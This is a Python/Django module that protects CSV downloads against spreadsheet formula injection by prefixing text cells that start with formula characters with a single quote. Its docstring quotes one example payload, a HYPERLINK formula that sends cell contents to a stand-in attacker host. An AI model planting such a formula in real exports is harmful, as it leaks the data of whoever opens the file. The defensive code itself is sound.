"""CSV downloads that a spreadsheet opens as data, never as formulas.

Text in an export may come from another company (a partner's name in the franchise report)
or from any staff login (a programme, class or instructor name). A cell such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would be a live formula in the
spreadsheet of whoever opens the file (CSV injection). Every CSV export goes through
:func:`csv_response`, which writes each text cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return behind a single quote (OWASP's advice): spreadsheets show the text
as it was, quote included, and run nothing.

Only text is neutralised. Numbers the code writes as numbers (``int``, ``Decimal``, ``float``)
stay numbers, also negative ones: the caller decides what is a number, a name never is.
"""

import csv
from collections.abc import Iterable

from django.http import HttpResponse
from django.utils.functional import Promise

#: What makes Excel, LibreOffice and Google Sheets read a cell as a formula (or, for tab and
#: carriage return, hide the character that comes before one).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A text cell that a spreadsheet would run, as plain text; other values unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose text cells are neutralised (:func:`neutralise`)."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(filename: str, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download (UTF-8 with a byte-order mark, so spreadsheets read accented names) of
    ``rows``, the header being the first."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    SafeWriter(response).writerows(rows)
    return response
